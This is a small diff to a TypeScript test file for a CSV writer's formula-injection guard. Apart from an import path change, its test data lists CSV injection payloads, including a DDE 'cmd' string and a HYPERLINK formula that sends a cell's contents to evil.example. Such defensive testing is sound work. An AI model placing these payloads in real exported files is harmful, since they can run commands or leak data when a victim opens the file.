@@ -4,7 +4,7 @@ import { buffer } from 'node:stream/consumers';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { guardCell, unguardCell, writeCsv } from './csv.ts';
-import { figure } from '../../tests/helpers/figure.ts';
+import { figure } from '#tests/helpers/figure.ts';
 
 const begin = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
 const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Click")', 'SUM(1,2);3', '"quoted"'];
